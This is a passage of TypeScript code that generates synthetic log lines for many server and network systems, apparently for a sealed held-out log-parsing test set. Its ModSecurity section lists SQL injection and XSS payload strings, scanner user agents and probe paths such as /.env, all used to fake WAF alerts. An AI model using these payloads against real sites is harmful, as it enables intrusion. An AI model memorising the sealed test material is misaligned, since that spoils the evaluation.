const LKSVC: [string, string, number, number][] = [['shop', 'api', 80, 8080], ['shop', 'api', 80, 8080], ['shop', 'web', 80, 3000], ['payments', 'gateway', 443, 8443], ['shop', 'redis-master', 6379, 6379], ['shop', 'search', 9200, 9200]];
const lksvc = (r: Rng) => { const [ns, name, p, tp] = r.pick(LKSVC); return { ns, name, p, tp, vip: `10.96.${r.int(0, 255)}.${r.int(1, 254)}`, ep: `10.0.${r.int(32, 63)}.${r.int(2, 250)}` }; };
const lkout = (r: Rng, depth: number) => { const s = lksvc(r); let c = `outbound:proxy{addr=${s.vip}:${s.p}}`; if (depth > 1) c += `:service{ns=${s.ns} name=${s.name} port=${s.p}}`; if (depth > 2) c += `:endpoint{addr=${s.ep}:${s.tp}}`; return { c, s }; };
const lkcl = (r: Rng) => `10.0.${r.int(32, 63)}.${r.int(2, 250)}:${port(r)}`;
const LKCLOSE = ['connection closed before message completed', 'Connection reset by peer (os error 104)', 'connection error: Connection reset by peer (os error 104)', 'Broken pipe (os error 32)', 'TLS detection timed out', 'direct connections must be mutually authenticated'];
const LKID = (ns: string, sa: string) => `${sa}.${ns}.serviceaccount.identity.linkerd.cluster.local`;

// Verdaccio (pretty console logs: level, then `---`, `-->` to an uplink or `<--` to a client)
const vd = (lvl: string, arrow: string) => `${lvl.padStart(5)} ${arrow} `;
const VDPKG = ['express', 'lodash', 'react', '@types%2fnode', 'typescript', 'vite', '@shop%2fui-kit', '@shop%2fui-kit', '@shop%2fapi-client', 'eslint', '@babel%2fcore', 'date-fns', 'zod'];
const vdtgz = (r: Rng) => { const p = r.pick(VDPKG).replace('%2f', '/'); const base = p.includes('/') ? p.split('/')[1] : p; return `/${p}/-/${base}-${r.int(0, 19)}.${r.int(0, 30)}.${r.int(0, 12)}.tgz`; };
const VDGET = [(r: Rng) => `/${r.pick(VDPKG)}`, (r: Rng) => `/${r.pick(VDPKG)}`, vdtgz, vdtgz, (r: Rng) => `/-/v1/search?text=${r.pick(['date', 'ui-kit', 'react%20table', 'logger'])}&size=20`, () => '/-/whoami', () => '/-/ping'];
const vduser = (r: Rng) => `${r.next() < 0.7 ? 'null' : r.pick(['ci-bot', 'alice', 'dmitri', 'hana'])}(${r.next() < 0.6 ? '172.18.0.1' : lan(r, '10.0')})`;
const VDUP = 'https://registry.npmjs.org';

// Buildbot master (twistd.log: Twisted's `date [context] message`)
const bb = (r: Rng, ctx = '-') => `${ymd(r)} ${hms(r)}+0000 [${ctx}] `;
const BBBUILDERS = ['linux-x86_64', 'linux-x86_64', 'linux-arm64', 'windows-msvc', 'macos-arm64', 'docs', 'lint'];
const BBWORKERS: [string, string][] = [['worker-01', '10.0.5.31'], ['worker-02', '10.0.5.32'], ['worker-03', '10.0.5.33'], ['arm-worker-01', '10.0.5.41'], ['win-worker-01', '10.0.5.51'], ['mac-mini-02', '10.0.5.62']];
const bbw = (r: Rng) => r.pick(BBWORKERS);
const bbbroker = (r: Rng, ip: string) => `Broker,${r.int(0, 400)},${ip}`;
const bbres = (r: Rng) => (r.next() < 0.78 ? 'success' : r.pick(['failure', 'failure', 'warnings', 'exception', 'cancelled']));
const bbbuild = (r: Rng, b: string, n: string, res: string) => `<Build ${b} number:${n} results:${res}>`;
const BBWHO = ['Alice Liddell <alice@example.com>', 'Dmitri Petrov <dmitri@example.com>', 'hana <hana@users.noreply.github.com>', 'renovate[bot] <29139614+renovate[bot]@users.noreply.github.com>', 'Emeka Obi <emeka.obi@example.com>'];
const BBMSG = ['Fix checkout rounding for JPY', 'Bump pytest from 8.3.3 to 8.3.4', 'docs: explain the release process', "Merge branch 'main' into feature/refunds", 'ci: cache pip downloads', 'Add Windows build of the CLI', 'WIP'];
const bbobj = (r: Rng) => `0x7f${r.hex(10)}`;

// ModSecurity 2.9 with the OWASP CRS 3.3 (Apache 2.4 error log)
const msw = (r: Rng, mod: string, client: boolean) => {
  const { d, mon, wd } = day(r);
  const ip = client ? (r.next() < 0.8 ? r.ip() : lan(r, '10.0')) : '';
  return { ip, pre: `[${wd} ${mon} ${d2(d)} ${hms(r)}.${usec(r)} 2026] [${mod}] [pid ${r.int(1000, 90000)}:tid ${r.int(139000000000000, 140999999999999)}]${client ? ` [client ${ip}:${port(r)}] [client ${ip}]` : ''} ModSecurity: ` };
};
const MSHOSTS = ['www.example.com', 'www.example.com', 'shop.example.com', 'api.example.com', '203.0.113.10'];
const MSCRS = '/usr/share/modsecurity-crs/rules';
const mstail = (r: Rng, file: string, line: number, id: number, msg: string, data: string | null, sev: string | null, tags: string[], uri: string) => {
  const host = skew(r, MSHOSTS, 0.4);
  return ` [file "${MSCRS}/${file}"] [line "${line}"] [id "${id}"] [msg "${msg}"]${data === null ? '' : ` [data "${data}"]`}${sev === null ? '' : ` [severity "${sev}"]`} [ver "OWASP_CRS/3.3.5"]${tags.map((x) => ` [tag "${x}"]`).join('')} [hostname "${host}"] [uri "${uri}"] [unique_id "${b64url(r, 27)}"]${r.next() < 0.15 ? `, referer: https://${host}/${r.pick(['', 'search?q=boots', 'cart'])}` : ''}`;
};
const MSBASE = ['application-multi', 'language-multi', 'platform-multi'];
const msuri = (r: Rng) => r.pick(['/', '/', '/index.php', '/search', '/api/v1/products', '/wp-login.php', '/.env', '/cgi-bin/luci', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', `/product/${r.int(1, 9000)}`]);
const MSUA: [string, string][] = [['nikto', 'mozilla/5.00 (nikto/2.1.6) (evasions:none) (test:000562)'], ['sqlmap', 'sqlmap/1.8.11#stable (https://sqlmap.org)'], ['masscan', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'], ['zgrab', 'mozilla/5.0 zgrab/0.x'], ['nuclei', 'mozilla/5.0 (x11; linux x86_64) nuclei']];
const MSSQLI: [string, string, string][] = [['s&sos', 'id', "1' or '1'='1"], ['1&1', 'id', '1 and 1=1'], ['sUEvc', 'q', "x' union select null,version()-- -"], ['s&1c', 'user', "admin'--"], ['1)UEv', 'cat', '1) union select 1,2,3#']];
const MSXSS = ['<script>alert(1)</script>', '"><svg/onload=alert(document.domain)>', '<img src=x onerror=prompt(1)>', 'javascript:alert(1)'];
const msscore = (r: Rng) => r.pick([5, 5, 5, 8, 10, 10, 13, 15, 18, 23, 25]);

// pgBackRest (fixed columns: time, process, level right-aligned to six)
const pbl = (r: Rng, proc: number, lvl: string) => `${ymd(r)} ${hms(r)}.${ms3(r)} P${d2(proc)} ${lvl.padStart(6)}: `;
const PBVER = '2.54.0';
const pbwal = (r: Rng) => `000000010000001${r.pick(['9', 'A', 'A', 'B'])}000000${hexUp(r, 2)}`;
const pbexec = (r: Rng) => `--exec-id=${r.int(1000, 4000000)}-${r.hex(8)}`;
const PBREPO = '--repo1-cipher-pass=<redacted> --repo1-cipher-type=aes-256-cbc --repo1-path=/pgbackrest --repo1-s3-bucket=pg-backups-prod --repo1-s3-endpoint=s3.eu-central-1.amazonaws.com --repo1-s3-key=<redacted> --repo1-s3-key-secret=<redacted> --repo1-s3-region=eu-central-1 --repo1-type=s3';
const PBPG = '--pg1-path=/var/lib/postgresql/16/main';
const pbsize = (r: Rng, big = false) => { const x = r.next(); if (!big && x < 0.55) return `${pick(r, [8, 8, 16, 24, 40, 56])}KB`; if (!big && x < 0.8) return `${r.int(1, 999)}KB`; if (x < 0.95 || !big) return `${r.float(1, 999, 1)}MB`; return `${r.float(1, 90, 1)}GB`; };
const PBDATA = PBPG.slice(11);
/** A data file and its size: relation segments up to 1GB, their fsm/vm forks and the small catalog files. */
const pbfile = (r: Rng): [string, string] => {
  const x = r.next();
  if (x < 0.75) { const seg = r.next() < 0.2; return [`${PBDATA}/base/${r.pick([16384, 16384, 16385, 1, 5])}/${r.int(1000, 99999)}${seg ? `.${r.int(1, 9)}` : ''}`, seg ? '1GB' : pbsize(r)]; }
  if (x < 0.9) return [`${PBDATA}/base/16384/${r.int(1000, 99999)}_${r.pick(['fsm', 'vm'])}`, r.pick(['8KB', '24KB', '40KB'])];
  if (x < 0.97) return [`${PBDATA}/global/${r.int(1000, 9999)}`, r.pick(['0B', '8KB', '16KB'])];
  return [r.pick([`${PBDATA}/global/pg_control`, `${PBDATA}/pg_xact/0000`, `${PBDATA}/PG_VERSION`]), r.pick(['8KB', '3B', '256KB'])];
};
const pblabel = (r: Rng) => { const { m, d } = day(r); const base = `2026${d2(m)}${d2(d)}-0100${d2(r.int(0, 9))}F`; return r.next() < 0.3 ? base : `${base}_2026${d2(m)}${d2(Math.min(28, d + r.int(1, 6)))}-${pick(r, ['0100', '1300'])}${d2(r.int(0, 9))}${r.pick(['I', 'I', 'D'])}`; };
/** A WAL segment and an LSN inside it (segment ...0000001A000000F3 holds 1A/F3xxxxxx). */
const pbwlsn = (r: Rng) => { const w = pbwal(r); return [w, `${w.slice(8, 16).replace(/^0+/, '')}/${w.slice(22, 24).replace(/^0/, '')}${hexUp(r, 6)}`] as const; };

// MariaDB with Galera (error log: `date time thread [Level] message`)
const md = (r: Rng, lvl: string, tid = 0) => `${ymd(r)} ${hms(r)} ${tid} [${lvl}] `;
const MDNODES: [string, string][] = [['db-01', '10.0.6.21'], ['db-02', '10.0.6.22'], ['db-03', '10.0.6.23']];
const MDUUID = MDNODES.map(() => `${FIXED.hex(8)}-${FIXED.hex(4)}`);
const MDGROUP = FIXED.uuid();
const mdn = (r: Rng) => { const i = r.int(0, 2); return { i, name: MDNODES[i][0], ip: MDNODES[i][1], u: MDUUID[i] }; };
const mdother = (r: Rng, i: number) => { const j = (i + r.int(1, 2)) % 3; return { j, name: MDNODES[j][0], ip: MDNODES[j][1], u: MDUUID[j] }; };
const mdseq = (r: Rng) => r.int(18000000, 19900000);
const MDSHIFT = [['SYNCED', 'DONOR/DESYNCED'], ['DONOR/DESYNCED', 'JOINED'], ['JOINED', 'SYNCED'], ['JOINED', 'SYNCED'], ['PRIMARY', 'JOINER'], ['JOINER', 'JOINED'], ['OPEN', 'PRIMARY'], ['SYNCED', 'DONOR/DESYNCED']] as const;
const MDSTATUS = [['joined', 'synced'], ['joined', 'synced'], ['synced', 'donor'], ['donor', 'joined'], ['connected', 'joiner'], ['joiner', 'initializing'], ['initializing', 'initialized'], ['initialized', 'joined'], ['disconnecting', 'disconnected']] as const;
const MDUSERS = ['shop_app', 'shop_app', 'shop_app', 'reporting', 'maxscale', 'backup', 'root'];
const mdclient = (r: Rng) => (r.next() < 0.8 ? `10.0.7.${r.int(10, 60)}` : r.pick(['10.0.9.40', '10.0.9.41', 'localhost']));

// Windows DNS Server debug log (fixed columns)
const wdnsdt = (r: Rng) => { const { m, d } = day(r); const h = r.int(0, 23); return `${m}/${d}/2026 ${h % 12 === 0 ? 12 : h % 12}:${d2(r.int(0, 59))}:${d2(r.int(0, 59))} ${h < 12 ? 'AM' : 'PM'}`; };
const WDTHREADS = ['0A2C', '0A2C', '0E70', '1B34', '09F8'];
const wdname = (n: string) => n.split('.').map((l) => `(${l.length})${l}`).join('') + '(0)';
const swap = (v: number) => `${(v & 0xff).toString(16).padStart(2, '0')}${((v >> 8) & 0xff).toString(16).padStart(2, '0')}`.toUpperCase();
const RCODES = ['NOERROR', 'FORMERR', 'SERVFAIL', 'NXDOMAIN', 'NOTIMP', 'REFUSED'];
const wdflags = (v: number) => `[${swap(v)} ${v & 0x400 ? 'A' : ' '}${v & 0x200 ? 'T' : ' '}${v & 0x100 ? 'D' : ' '}${v & 0x80 ? 'R' : ' '}  ${RCODES[v & 0xf]}]`;
const wdpk = (r: Rng, proto: string, dir: string, ip: string, xid: string, resp: boolean, op: string, flags: number, qtype: string, qname: string) =>
  `${wdnsdt(r)} ${skew(r, WDTHREADS, 0.4)} PACKET  ${hexUp(r, 16).replace(/^.{4}/, '0000')} ${proto} ${dir} ${ip.padEnd(15)} ${xid} ${resp ? 'R' : ' '} ${op} ${wdflags(flags)} ${qtype.padEnd(6)} ${wdname(qname)}`;
const WDINT: [string, string][] = [['A', 'dc-01.corp.example.com'], ['A', 'fs-01.corp.example.com'], ['SRV', '_ldap._tcp.dc._msdcs.corp.example.com'], ['SRV', '_kerberos._tcp.Default-First-Site-Name._sites.dc._msdcs.corp.example.com'], ['A', 'wpad.corp.example.com'], ['SOA', 'corp.example.com'], ['A', 'printsrv.corp.example.com'], ['AAAA', 'exch-01.corp.example.com']];
const WDEXT: [string, string][] = [['A', 'www.google.com'], ['AAAA', 'www.google.com'], ['A', 'login.microsoftonline.com'], ['A', 'outlook.office365.com'], ['A', 'settings-win.data.microsoft.com'], ['A', 'ctldl.windowsupdate.com'], ['AAAA', 'teams.microsoft.com'], ['A', 'update.googleapis.com'], ['A', 'clients4.google.com'], ['A', 'time.windows.com'], ['A', 'github.com'], ['A', 'api.crowdstrike.example.net']];
const wdq = (r: Rng): [string, string, boolean] => {
  const x = r.next();
  if (x < 0.35) { const [qt, n] = r.pick(WDINT); return [qt, n, true]; }
  if (x < 0.45) { const ip = [r.int(2, 250), r.int(0, 9), 0, 10]; return ['PTR', `${ip.join('.')}.in-addr.arpa`, true]; }
  const [qt, n] = skew(r, WDEXT, 0.25); return [qt, n, false];
};
const wdclient = (r: Rng) => (r.next() < 0.9 ? `10.0.${r.int(1, 4)}.${r.int(10, 250)}` : r.pick(['10.0.0.11', '127.0.0.1', '::1']));
const WDFWD = ['8.8.8.8', '8.8.4.4', '1.1.1.1'];
const WDSEC = ['10.0.0.12', '10.0.0.13'];

// Huawei VRP switches (info-center log: `date host %%01MODULE/severity/MNEMONIC(type)[seq]:text`)
const HWCE = ['CE6881-DC1-LEAF01', 'CE6881-DC1-LEAF02', 'CE8850-DC1-SPINE01'];
const HWS = ['S5735-ACC-F2-01', 'S5735-ACC-F3-01', 'S6730-CORE-01'];
const hw = (r: Rng, mod: string, sev: number, mn: string, type = 'l', family?: 'ce' | 's') => {
  const fam = family ?? (r.next() < 0.55 ? 'ce' : 's');
  const host = fam === 'ce' ? skew(r, HWCE, 0.4) : skew(r, HWS, 0.4);
  const { d, mon } = day(r);
  return { fam, out: `${mon} ${d} 2026 ${hms(r)}${fam === 'ce' ? '+00:00' : ''} ${host} %%01${mod}/${sev}/${mn}(${type})[${r.int(0, 9999)}]:` };
};
const hwif = (r: Rng, fam: string) => (fam === 'ce' ? r.pick([`10GE1/0/${r.int(1, 48)}`, `10GE1/0/${r.int(1, 48)}`, `100GE1/0/${r.int(1, 6)}`, `Eth-Trunk${r.int(1, 20)}`]) : r.pick([`GigabitEthernet0/0/${r.int(1, 48)}`, `GigabitEthernet0/0/${r.int(1, 48)}`, `XGigabitEthernet0/0/${r.int(1, 4)}`, `Eth-Trunk${r.int(1, 8)}`]));
const HWUSERS = ['netadmin', 'netadmin', 'alice', 'noc-ro', 'oxidized'];
const hwmgmt = (r: Rng) => `10.0.254.${r.int(1, 40)}`;
const hwadm = (r: Rng) => (r.next() < 0.8 ? r.pick(['10.0.9.5', '10.0.9.7', '10.0.9.30']) : r.ip());
const HWCMDS = ['display interface brief', 'display current-configuration | include vlan', 'system-view', 'display version', 'display lldp neighbor brief', 'display mac-address', 'save', 'commit', 'quit', 'undo shutdown', 'port default vlan 120', 'description uplink to fw-01', 'display ospf peer brief', 'screen-length 0 temporary'];
const HWOSPF = [['HelloReceived', 'Down', 'Init'], ['2WayReceived', 'Init', '2Way'], ['AdjOk?', '2Way', 'ExStart'], ['NegotiationDone', 'ExStart', 'Exchange'], ['ExchangeDone', 'Exchange', 'Loading'], ['LoadingDone', 'Loading', 'Full'], ['InactivityTimer', 'Full', 'Down'], ['KillNbr', 'Full', 'Down']] as const;
const hwmac = (r: Rng) => `${r.hex(4)}-${r.hex(4)}-${r.hex(4)}`;

// Vaultwarden (Rust, fern: `[date][target][LEVEL] message`)
const vw = (r: Rng, target: string, lvl: string) => `[${ymd(r)} ${hms(r)}.${ms3(r)}][${target}][${lvl}] `;
const VWGET: [string, (r: Rng) => string, string][] = [
  ['sync', () => '/api/sync?excludeDomains=true', '200 OK'], ['sync', () => '/api/sync?excludeDomains=true', '200 OK'], ['sync', () => '/api/sync', '200 OK'],
  ['revision_date', () => '/api/accounts/revision-date', '200 OK'], ['config', () => '/api/config', '200 OK'], ['get_icon', (r) => `/icons/${r.pick(['github.com', 'accounts.google.com', 'login.microsoftonline.com', 'www.amazon.de', 'gitlab.example.com'])}/icon.png`, '200 OK'],
  ['get_auth_requests', () => '/api/auth-requests', '200 OK'], ['get_attachment', (r) => `/api/ciphers/${r.uuid()}/attachment/${r.alnum(20)}`, '200 OK'],
];
const VWPOST: [string, (r: Rng) => string, string][] = [
  ['login', () => '/identity/connect/token', '200 OK'], ['login', () => '/identity/connect/token', '400 Bad Request'], ['prelogin', () => '/identity/accounts/prelogin', '200 OK'],
  ['post_ciphers', () => '/api/ciphers', '200 OK'], ['negotiate', () => '/notifications/hub/negotiate', '200 OK'], ['post_events_collect', () => '/events/collect', '200 OK'],
];
const VWPUT: [string, (r: Rng) => string, string][] = [['put_cipher', (r) => `/api/ciphers/${r.uuid()}`, '200 OK'], ['move_cipher_selected_put', () => '/api/ciphers/move', '200 OK'], ['put_folder', (r) => `/api/folders/${r.uuid()}`, '200 OK']];
const VWDEL: [string, (r: Rng) => string, string][] = [['delete_cipher', (r) => `/api/ciphers/${r.uuid()}`, '200 OK'], ['delete_folder', (r) => `/api/folders/${r.uuid()}`, '200 OK']];
const VWMAIL = ['alice@example.com', 'alice@example.com', 'bob@example.com', 'dmitri@example.org', 'hana.k@example.com', 'family-admin@example.net'];
const vwip = (r: Rng) => (r.next() < 0.6 ? `10.0.${r.int(0, 3)}.${r.int(2, 250)}` : r.ip());

export const SEALED13_SYSTEMS: HeldoutSystem[] = [
  { name: 'xinetd-tftpd', templates: [
    t(10, (r) => { const [s, from] = xsvc(r); return `${xi(r)}START: ${s} pid=${r.int(2000, 65000)} from=${v6m(r, from)}`; }),
    t(9, (r) => { const [s] = xsvc(r); return `${xi(r)}EXIT: ${s} status=${r.next() < 0.93 ? 0 : r.pick([1, 2, 255])} pid=${r.int(2000, 65000)} duration=${r.int(0, r.next() < 0.8 ? 5 : 600)}(sec)`; }),
    t(0.8, (r) => { const [s] = xsvc(r); return `${xi(r)}FAIL: ${s} ${r.next() < 0.8 ? 'address' : 'per_source_limit'} from=${v6m(r, r.next() < 0.6 ? r.ip() : lan(r, '10.0'))}`; }),
    t(0.15, (r) => `${xi(r)}xinetd Version 2.3.15.4 started with libwrap loadavg labeled-networking options compiled in.`),
    t(0.15, (r) => `${xi(r)}Started working: ${r.int(2, 4)} available services`),
    t(0.4, (r) => { const s = r.pick(['tftp', 'check_mk', 'nrpe', 'rsync', ...XOFF]); return `${xi(r)}Reading included configuration file: /etc/xinetd.d/${s} [file=/etc/xinetd.conf] [line=${r.pick([14, 14, 15])}]`; }),
    t(0.3, (r) => `${xi(r)}removing ${r.pick(XOFF)}`),
    t(0.12, (r) => `${xi(r)}Starting reconfiguration`),
    t(0.12, (r) => `${xi(r)}Swapping defaults`),
    t(0.2, (r) => `${xi(r)}readjusting service ${r.pick(['tftp', 'check_mk', 'nrpe', 'rsync'])}`),
    t(0.12, (r) => `${xi(r)}Reconfigured: new=${r.int(0, 1)} old=${r.int(3, 4)} dropped=${r.int(0, 1)} (services)`),
    t(0.12, (r) => `${xi(r)}Exiting...`),
    t(14, (r) => { const ip = pxeip(r); return `${tf(r)}RRQ from ${v6m(r, ip)} filename ${pick(r, TFGET)}`; }),
    t(1, (r) => { const f = r.pick(['Boot\\x64\\wdsnbp.com', 'Boot\\x64\\pxeboot.n12', 'boot\\BCD', 'Boot\\Fonts\\wgl4_boot.ttf', 'sources\\boot.wim']); return `${tf(r)}RRQ from ${v6m(r, pxeip(r))} filename ${f} remapped to ${f.replace(/\\/g, '/').replace(/^/, r.next() < 0.5 ? '' : '/srv/tftp/')}`; }),
    t(7, (r) => { const ip = pxeip(r); const x = r.next(); return `${tf(r)}sending NAK (${x < 0.9 ? '1, File not found' : x < 0.97 ? '0, Permission denied' : '2, Access violation'}) to ${v6m(r, ip)}`; }),
    t(2, (r) => `${tf(r)}tftp: client does not accept options`),
    t(0.5, (r) => `${tf(r)}WRQ from ${v6m(r, `10.0.254.${r.int(1, 40)}`)} filename ${r.pick(['backups/', 'configs/', ''])}${r.pick(['core-sw-01', 'acc-sw-f2-01', 'fw-01', 'ap-lobby'])}-${r.pick(['confg', 'config.cfg', 'running.cfg'])}`),
  ] },
  { name: 'drbd', templates: [
    t(4, (r) => `${drR(r)}Preparing cluster-wide state change ${drid(r)} (${r.int(0, 2)}->${r.pick([-1, 0, 1, 2])} ${r.int(1, 511)}/${r.int(0, 255)})`),
    t(4, (r) => `${drR(r)}State change ${drid(r)}: primary_nodes=${r.int(0, 4)}, weak_nodes=${r.next() < 0.7 ? `FFFFFFFFFFFFFFF${r.pick(['8', 'A', 'C', 'E'])}` : '0'}`),
    t(4, (r) => `${drR(r)}Committing cluster-wide state change ${drid(r)} (${r.int(0, r.next() < 0.9 ? 40 : 2000)}ms)`),
    t(1.5, (r) => `${drR(r)}role${tr(r, [['Secondary', 'Primary'], ['Primary', 'Secondary']])}`),
    t(2, (r) => `${drR(r)}Preparing remote state change ${drid(r)}`),
    t(2, (r) => `${drR(r)}Committing remote state change ${drid(r)} (primary_nodes=${r.int(0, 4)})`),
    t(4, (r) => `${drC(r)}conn${tr(r, DRCONN)}`),
    t(4, (r) => { const [c, p] = r.pick(DRCP); return `${drC(r)}conn( ${c[0]} -> ${c[1]} ) peer( ${p[0]} -> ${p[1]} )`; }),
    t(2, (r) => `${drC(r)}Handshake to peer ${r.int(0, 2)} successful: Agreed network protocol version ${r.pick([121, 121, 122, 117])}`),
    t(2, (r) => `${drC(r)}Feature flags enabled on protocol level: 0x${r.pick(['6f', '7f', 'ff'])} TRIM THIN_RESYNC WRITE_SAME WRITE_ZEROES${r.next() < 0.6 ? ' RESYNC_DAGTAG' : ''}.`),
    t(2, (r) => { const k = drk(r); return `${k.pre}${k.res} ${k.peer}: Starting ack_recv thread (from drbd_r_${k.res.slice(0, 8)} [${r.int(1000, 90000)}])`; }),
    t(0.6, (r) => `${drC(r)}PingAck did not arrive in time.`),
    t(1, (r) => `${drC(r)}Terminating sender thread`),
    t(1, (r) => `${drC(r)}Connection closed`),
    t(3, (r) => `${drD(r)}disk${tr(r, DRDISK)}`),
    t(0.5, (r) => { const g = r.pick([10, 20, 50, 100, 250, 500]); return `${drD(r)}size = ${g} GB (${g * 1048576 - r.int(0, 4000)} KB)`; }),
    t(3, (r) => `${drP(r)}drbd_sync_handshake:`),
    t(3, (r) => `${drP(r)}self ${druuid(r)}:0000000000000000:${druuid(r)}:${druuid(r)} bits:${r.next() < 0.7 ? 0 : r.int(1, 900000)} flags:${r.pick(['0', '20', '120', '3', '520'])}`),
    t(3, (r) => `${drP(r)}peer ${druuid(r)}:0000000000000000:${druuid(r)}:${druuid(r)} bits:${r.next() < 0.7 ? 0 : r.int(1, 900000)} flags:${r.pick(['0', '20', '120', '1120'])}`),
    t(3, (r) => { const [res, rule] = r.pick([['no-sync', 38], ['no-sync', 38], ['source-use-bitmap', 70], ['target-use-bitmap', 71], ['source-set-bitmap', 100]] as const); return `${drP(r)}uuid_compare()=${res} by rule ${rule}`; }),
    t(4, (r) => { const [a, b] = r.pick(DRPR); return `${drP(r)}pdsk( ${a[0]} -> ${a[1]} ) repl( ${b[0]} -> ${b[1]} )`; }),
    t(4, (r) => `${drP(r)}repl${tr(r, DRREPL)}`),
    t(1.5, (r) => { const bits = r.int(1, 300000); return `${drP(r)}Began resync as ${r.next() < 0.5 ? 'SyncSource' : 'SyncTarget'} (will sync ${bits * 4} KB [${bits} bits set]).`; }),
    t(1.5, (r) => `${drP(r)}Resync done (total ${r.int(1, 3000)} sec; paused ${r.next() < 0.9 ? 0 : r.int(1, 60)} sec; ${r.int(100, 400000)} K/sec)`),
    t(1.5, (r) => `${drP(r)}updated UUIDs ${druuid(r)}:0000000000000000:${druuid(r)}:${druuid(r)}`),
  ] },
  { name: 'hbase-regionserver', templates: [
    t(8, (r) => { const g = hbreg(r); const n = r.pick([1, 1, 1, 2, 3]); return `${hbl(r, 'INFO', hbflusher(r), 'regionserver.HRegion')}Flushing ${g.enc} ${n}/${n} column families, dataSize=${hbmb(r, 0.1, 128).s} heapSize=${hbmb(r, 0.2, 256).s}`; }),
    t(8, (r) => { const g = hbreg(r); return `${hbl(r, 'INFO', hbflusher(r), 'regionserver.DefaultStoreFlusher')}Flushed memstore data size=${hbmb(r, 0.1, 128).s} at sequenceid=${hbseq(r)} (bloomFilter=${r.next() < 0.8 ? 'true' : 'false'}), to=${hbdir(g)}/.tmp/${hbcf(r)}/${r.hex(32)}`; }),
    t(8, (r) => { const g = hbreg(r); return `${hbl(r, 'INFO', hbflusher(r), 'regionserver.HStore')}Added ${hbdir(g)}/${hbcf(r)}/${r.hex(32)}, entries=${r.int(100, 900000)}, sequenceid=${hbseq(r)}, filesize=${r.float(0.1, 99, 1)} ${r.next() < 0.8 ? 'M' : 'K'}`; }),
    t(8, (r) => { const g = hbreg(r); const a = hbmb(r, 0.1, 128); const b = hbmb(r, 0.2, 256); const c = hbmb(r, 0, 4); return `${hbl(r, 'INFO', hbflusher(r), 'regionserver.HRegion')}Finished flush of dataSize ~${a.s}/${a.b}, heapSize ~${b.s}/${b.b}, currentSize=${c.s}/${c.b} for ${g.enc} in ${r.int(20, r.next() < 0.9 ? 900 : 20000)}ms, sequenceid=${hbseq(r)}, compaction requested=${r.next() < 0.75 ? 'false' : 'true'}`; }),
    t(2, (r) => { const g = hbreg(r); const cf = hbcf(r); return `${hbl(r, 'INFO', hbcompact(r), 'regionserver.HStore')}Starting compaction of [${Array.from({ length: r.int(2, 6) }, () => `${hbdir(g)}/${cf}/${r.hex(32)}`).join(', ')}] into tmpdir=${hbdir(g)}/.tmp, totalSize=${r.float(1, 999, 1)} M`; }),
    t(2, (r) => { const g = hbreg(r); const major = r.next() < 0.2; return `${hbl(r, 'INFO', hbcompact(r), 'regionserver.HStore')}Completed ${major ? 'major ' : ''}compaction of ${r.int(2, 10)}${major || r.next() < 0.3 ? ' (all)' : ''} file(s) in ${g.enc}/${hbcf(r)} of ${g.enc} into ${r.hex(32)}(size=${r.float(1, 999, 1)} M), total size for store is ${r.float(0.1, 40, 1)} G. This selection was in queue for ${r.next() < 0.8 ? 0 : r.int(1, 90)}sec, and took ${r.int(0, 600)}sec to execute.`; }),
    t(2, (r) => { const g = hbreg(r); return `${hbl(r, 'INFO', hbcompact(r), 'regionserver.CompactSplit')}Completed compaction region=${g.name}, storeName=${hbcf(r)}, priority=${r.int(-20, 12)}, startTime=${epochMs(r)}; duration=${r.int(0, 600)}sec`; }),
    t(1.5, (r) => { const h = hbrs(r); return `${hbl(r, 'INFO', `regionserver/${h.rs}:16020.logRoller`, 'wal.AbstractFSWAL')}Rolled WAL ${hbwal(r, h)} with entries=${r.int(1000, 900000)}, filesize=${r.float(1, 128, 1)} M; new WAL ${hbwal(r, h)}`; }),
    t(3, (r) => { const { rs, start } = hbrs(r); return `${hbl(r, 'INFO', `AsyncFSWAL-0-${HBNN}-prefix:${rs}.example.com,16020,${start}`, 'wal.AbstractFSWAL')}Slow sync cost: ${r.int(100, r.next() < 0.9 ? 900 : 20000)} ms, current pipeline: ${hbdn(r)}`; }),
    t(1, (r) => { const h = hbrs(r); const w = hbwal(r, h); return `${hbl(r, 'INFO', `regionserver/${h.rs}:16020.logRoller`, 'wal.AbstractFSWAL')}Archiving ${w} to ${w.replace(/\/WALs\/[^/]+\//, '/oldWALs/')}`; }),
    t(1, (r) => `${hbl(r, 'INFO', `RS_OPEN_REGION-regionserver/${r.pick(HBRS)}:16020-${r.int(0, 2)}`, 'handler.AssignRegionHandler')}Open ${hbreg(r).name}`),
    t(1, (r) => `${hbl(r, 'INFO', `RS_OPEN_REGION-regionserver/${r.pick(HBRS)}:16020-${r.int(0, 2)}`, 'regionserver.HRegion')}Opened ${hbreg(r).enc}; next sequenceid=${hbseq(r)}`),
    t(1, (r) => `${hbl(r, 'INFO', `RS_OPEN_REGION-regionserver/${r.pick(HBRS)}:16020-${r.int(0, 2)}`, 'regionserver.HRegionServer')}Post open deploy tasks for ${hbreg(r).name}`),
    t(0.8, (r) => `${hbl(r, 'INFO', `RS_CLOSE_REGION-regionserver/${r.pick(HBRS)}:16020-${r.int(0, 2)}`, 'handler.UnassignRegionHandler')}Close ${hbreg(r).enc}`),
    t(0.8, (r) => `${hbl(r, 'INFO', `RS_CLOSE_REGION-regionserver/${r.pick(HBRS)}:16020-${r.int(0, 2)}`, 'regionserver.HRegion')}Closed ${hbreg(r).name}`),
    t(1.5, (r) => { const g = hbreg(r); const n = r.int(1, 500); const st = epochMs(r); return `${hbl(r, 'WARN', hbrpc(r), 'ipc.RpcServer')}(responseTooSlow): {"call":"Multi(org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos$MultiRequest)","multi.gets":${r.next() < 0.5 ? 0 : n},"starttimems":"${st}","responsesize":"${r.int(10, 90000)}","method":"Multi","param":"region= ${g.name}, for ${n} action(s) and 1st row key=${r.hex(8)}","processingtimems":${r.int(10000, 90000)},"client":"10.0.7.${r.int(10, 60)}:${port(r)}","multi.service_calls":0,"queuetimems":${r.int(0, 900)},"class":"HRegionServer","multi.mutations":${r.next() < 0.5 ? n : 0}}`; }),
